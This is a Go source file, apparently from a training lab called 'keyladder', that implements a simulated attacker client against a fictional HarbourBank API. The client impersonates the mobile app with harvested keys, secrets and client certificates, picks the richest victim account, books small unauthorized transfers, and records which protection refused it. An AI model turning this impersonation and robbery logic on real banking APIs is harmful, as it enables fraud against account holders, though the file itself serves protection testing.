package attacker

import (
	"bytes"
	"context"
	"crypto/tls"
	"crypto/x509"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/url"
	"strconv"
	"strings"
	"time"

	"keyladder/internal/problem"
	"keyladder/internal/traffic"
	"keyladder/stages/catalog"
	"keyladder/stages/mechanism/sealed"
	"keyladder/stages/mechanism/session"
)

// publicUserAgent is what the genuine app calls itself. It is no secret: every server
// that a phone with the app ever talked to has seen it.
const publicUserAgent = "HarbourBank/1.0"

const (
	callTimeout = 10 * time.Second
	maxAnswer   = 4 << 20
	pittance    = 100 // what a robbery takes: 1.00, in minor units
)

// identity is what a program shows to be taken for the app. Whatever is empty was not
// found and is not sent; a device and a session the program gets for itself.
type identity struct {
	userAgent   string
	key         string // the app's ID
	secret      string // that goes with it, from stage 4 on
	certificate *tls.Certificate
	device      installation
	session     session.Key
}

// program is an HTTP client that takes the app's place.
type program struct {
	g             *Ground
	as            identity
	app           *imitation
	authorization string // in place of the app's proof; empty: that of the identity
	hasty         bool   // does not wait when told to
	client        *http.Client

	user, password string // while it signs in
}

// newProgram starts a program. Close it.
func newProgram(g *Ground, as identity) (*program, error) {
	if as.userAgent == "" {
		as.userAgent = publicUserAgent
	}
	app, err := g.imitate(as)
	if err != nil {
		return nil, err
	}
	config, err := g.clientTLS(as.certificate)
	if err != nil {
		return nil, err
	}
	transport := &http.Transport{
		DialContext:         g.Routes.Dial(dialer),
		TLSClientConfig:     config,
		MaxIdleConnsPerHost: 64, // or a flood would be busy with handshakes
	}
	return &program{g: g, as: as, app: app, client: &http.Client{
		Transport: transport,
		Timeout:   callTimeout,
		CheckRedirect: func(*http.Request, []*http.Request) error {
			return http.ErrUseLastResponse
		},
	}}, nil
}

func (p *program) close() { p.client.CloseIdleConnections() }

// clientTLS trusts what every device trusts.
func (g *Ground) clientTLS(certificate *tls.Certificate) (*tls.Config, error) {
	roots := x509.NewCertPool()
	if len(g.Roots) > 0 && !roots.AppendCertsFromPEM(g.Roots) {
		return nil, errors.New("there is no certificate in the public roots")
	}
	config := &tls.Config{RootCAs: roots, MinVersion: tls.VersionTLS12}
	if certificate != nil {
		// Certificates would only be shown to servers that name their issuer.
		config.GetClientCertificate = func(*tls.CertificateRequestInfo) (*tls.Certificate, error) { return certificate, nil }
	}
	return config, nil
}

// api is the base URL of the stage's API.
func (g *Ground) api() string {
	base := g.TLS
	if g.Stage.Call.Transport == catalog.PlainHTTP {
		base = g.Plain
	}
	return strings.TrimSuffix(base, "/") + "/" + g.Stage.Slug
}

// answer is what the API said.
type answer struct {
	status int
	header http.Header
	body   []byte
}

// call sends a request and returns the answer if it was served, and a [*refusal]
// where a protection stopped it. A call that only came too early is sent again when
// the API said that it might.
func (p *program) call(ctx context.Context, method, path string, body any) (answer, error) {
	var encoded []byte
	if body != nil {
		var err error
		if encoded, err = json.Marshal(body); err != nil {
			return answer{}, err
		}
	}
	early, stale := 3, 1
	for {
		request, sent, err := p.request(ctx, method, path, encoded)
		if err != nil {
			return answer{}, err
		}
		got, err := p.send(request, sent)
		if err != nil {
			return answer{}, err
		}
		if wait, limited := retryAfter(got); limited && early > 0 && !p.hasty {
			early--
			if err := pause(ctx, wait); err != nil {
				return answer{}, err
			}
			continue
		}
		if p.app.signer != nil && stale > 0 && p.app.signer.Learn(got.status, got.header, time.Now()) == nil {
			stale--
			continue
		}
		got = p.app.open(got)
		return got, judge(got.status, got.header.Get("Content-Type"), got.body)
	}
}

func newRequest(ctx context.Context, method, url string, body []byte) (*http.Request, error) {
	var reader io.Reader = http.NoBody
	if len(body) > 0 {
		reader = bytes.NewReader(body)
	}
	return http.NewRequestWithContext(ctx, method, url, reader)
}

// send sends the request as it is and records both ways.
func (p *program) send(request *http.Request, body []byte) (answer, error) {
	exchange := request.Header.Get(traffic.Header)
	summary := request.Method + " " + request.URL.RequestURI()
	p.g.record(traffic.Message{
		Exchange: exchange, Kind: traffic.Request, From: "attacker", To: "resource",
		Summary: summary, Head: head(summary+" HTTP/1.1", "Host: "+request.URL.Host, request.Header), Body: body, Size: len(body),
	})
	response, err := p.client.Do(request)
	if err != nil {
		err = p.alerted(request.Context(), err)
		p.g.record(traffic.Message{
			Exchange: exchange, Kind: traffic.Note, From: "resource", To: "attacker",
			Summary: "no response: " + err.Error(),
		})
		return answer{}, err
	}
	defer response.Body.Close()
	got, err := io.ReadAll(io.LimitReader(response.Body, maxAnswer))
	if err != nil {
		return answer{}, fmt.Errorf("read the API's answer: %w", err)
	}
	p.g.record(traffic.Message{
		Exchange: exchange, Kind: traffic.Response, From: "resource", To: "attacker",
		Summary: response.Status, Head: head("HTTP/1.1 "+response.Status, "", response.Header), Body: got, Size: len(got),
	})
	return answer{response.StatusCode, response.Header, got}, nil
}

func (g *Ground) record(m traffic.Message) {
	if m.Lane == "" {
		m.Lane = traffic.App
	}
	m.Stage = g.Stage.Slug
	g.Log.Add(m)
}

func head(start, host string, fields http.Header) string {
	var text strings.Builder
	text.WriteString(start + "\r\n")
	if host != "" {
		text.WriteString(host + "\r\n")
	}
	_ = fields.Write(&text) // a strings.Builder takes everything
	return text.String()
}

// retryAfter says how long the API wants to be left alone, if it does.
func retryAfter(a answer) (time.Duration, bool) {
	if a.status != http.StatusTooManyRequests {
		return 0, false
	}
	seconds, err := strconv.Atoi(a.header.Get("Retry-After"))
	if err != nil || seconds < 0 {
		seconds = 1
	}
	wait := time.Duration(seconds) * time.Second
	return wait, wait <= callTimeout
}

func pause(ctx context.Context, d time.Duration) error {
	timer := time.NewTimer(d)
	defer timer.Stop()
	select {
	case <-timer.C:
		return nil
	case <-ctx.Done():
		return ctx.Err()
	}
}

// refusal says that a protection stopped a call. Anything else that goes wrong is
// another error, because it says nothing about the stage.
type refusal struct {
	check    catalog.Check // only where nobody but the attacker can tell
	obstacle string
}

func (r *refusal) Error() string { return r.obstacle }

// stopped turns a [*refusal] into the result of an attack; other errors stay errors.
func stopped(err error) (Result, error) {
	var r *refusal
	if errors.As(err, &r) {
		return Result{Check: r.check, Obstacle: r.obstacle}, nil
	}
	return Result{}, err
}

// judge is nil where the call was served, and a [*refusal] where the API says that a
// protection refused it. Behind the end of TLS the problem may be sealed for the app.
func judge(status int, contentType string, body []byte) error {
	if status >= 200 && status < 300 {
		return nil
	}
	if refused := status == http.StatusUnauthorized || status == http.StatusForbidden; refused && isSealed(body) {
		return &refusal{obstacle: fmt.Sprintf("the API answers %d, and why is sealed for the app", status)}
	}
	p := problem.Parse(contentType, body)
	if p == nil || p.Title == "" {
		return fmt.Errorf("the API answered %d, but not with a problem that says why", status)
	}
	switch p.Kind() {
	case "tls-required", "rate-limited": // asked at the wrong door, or too often: our mistake
		return fmt.Errorf("the API answered %d, %s", status, p.Title)
	}
	switch status {
	case http.StatusUnauthorized, http.StatusForbidden:
		return &refusal{obstacle: fmt.Sprintf("the API answers %d, %s", status, p.Title)}
	}
	return fmt.Errorf("the API answered %d, %s: no protection, something is wrong", status, p.Title)
}

// alerted makes a [*refusal] of the TLS alert with which a server refuses a client
// certificate. Other errors stay errors.
func (p *program) alerted(ctx context.Context, err error) error {
	if alert := certificateAlert(err); alert != nil {
		return alert
	}
	if p.as.certificate != nil {
		// The connection may have been reset before the alert was read.
		if alert := certificateAlert(p.handshake(ctx)); alert != nil {
			return alert
		}
	}
	return fmt.Errorf("call the API: %w", err)
}

func certificateAlert(err error) error {
	var op *net.OpError
	if errors.As(err, &op) && op.Op == "remote error" && strings.Contains(op.Err.Error(), "certificate") {
		return &refusal{check: catalog.CheckClientCert, obstacle: fmt.Sprintf("the API ends the TLS handshake: %v", op.Err)}
	}
	return nil
}

// handshake opens a TLS connection, sends nothing, and waits for an alert: in TLS 1.3
// the server looks at the certificate when the client's side is done already.
func (p *program) handshake(ctx context.Context) error {
	ctx, cancel := context.WithTimeout(ctx, 2*time.Second)
	defer cancel()
	url, err := url.Parse(p.g.TLS)
	if err != nil {
		return err
	}
	config, err := p.g.clientTLS(p.as.certificate)
	if err != nil {
		return err
	}
	conn, err := p.g.Routes.DialTLS(dialer, config)(ctx, "tcp", url.Host)
	if err != nil {
		return err
	}
	defer conn.Close()
	defer context.AfterFunc(ctx, func() { _ = conn.SetReadDeadline(time.Now()) })()
	_, err = conn.Read(make([]byte, 1))
	return err
}

// account is an account as the API shows it.
type account struct {
	ID       string `json:"id"`
	Balance  int64  `json:"balance"`
	Currency string `json:"currency"`
	Frozen   bool   `json:"frozen"`
}

// someAccount is somebody's account number, as it stands on every invoice.
const someAccount = catalog.BobAccount

// robbery is what to book, given the list of accounts that the API shows: from the
// account of somebody else that has the most in it to the attacker's own. Who is shown
// nobody else's account pays from their own, to somebody.
func (g *Ground) robbery(body []byte) (from account, to string, err error) {
	var list struct {
		Accounts []account `json:"accounts"`
	}
	if err := json.Unmarshal(body, &list); err != nil {
		return account{}, "", fmt.Errorf("read the list of accounts: %w", err)
	}
	var own account
	for _, a := range list.Accounts {
		switch {
		case a.ID == g.Account:
			own = a
		case !a.Frozen && a.Balance > from.Balance:
			from = a
		}
	}
	switch {
	case from.ID != "":
		return from, g.Account, nil
	case own.ID != "" && g.User != "":
		return own, someAccount, nil
	}
	return account{}, "", errors.New("there is no account to take money from")
}

// rob books a small transfer.
func (p *program) rob(ctx context.Context) error {
	if err := p.enter(ctx); err != nil {
		return err
	}
	list, err := p.call(ctx, http.MethodGet, "/v1/accounts", nil)
	if err != nil {
		return err
	}
	from, to, err := p.g.robbery(list.body)
	if err != nil {
		return err
	}
	if _, err = p.book(ctx, from, to); err != nil {
		return err
	}
	p.g.Say("Booked a transfer from %s to %s with a program that is not the app.", from.ID, to)
	return nil
}

func (p *program) book(ctx context.Context, from account, to string) (answer, error) {
	return p.call(ctx, http.MethodPost, "/v1/transfers", map[string]any{
		"from": from.ID, "to": to, "amount": pittance, "currency": from.Currency, "reference": p.g.Reference,
	})
}

// robAs robs with the first of the identities that gets through, and says what
// stopped the last one where none does.
func robAs(ctx context.Context, g *Ground, identities []identity) (Result, error) {
	err := errors.New("there is nothing to try")
	for _, as := range identities {
		var p *program
		if p, err = newProgram(g, as); err != nil {
			return Result{}, err
		}
		err = p.rob(ctx)
		p.close()
		if err == nil {
			return Result{Claim: true}, nil
		}
		var r *refusal
		if !errors.As(err, &r) {
			return Result{}, err
		}
		g.Say("Tried %s: %s.", as, r.obstacle)
	}
	return stopped(err)
}

// String describes an identity without giving it away.
func (as identity) String() string {
	text := "no key"
	if as.key != "" {
		text = "the key " + fingerprint(as.key)
	}
	if as.secret != "" {
		text += " with the secret " + fingerprint(as.secret)
	}
	if as.certificate != nil {
		text += " with a client certificate"
	}
	if as.session != "" {
		text += " and a session key"
	}
	return text
}

// isSealed tells whether a body is a JWE in compact form.
func isSealed(body []byte) bool {
	var k sealed.Key // opens nothing, and says why
	_, _, err := k.Open(body)
	return errors.Is(err, sealed.ErrOpen)
}
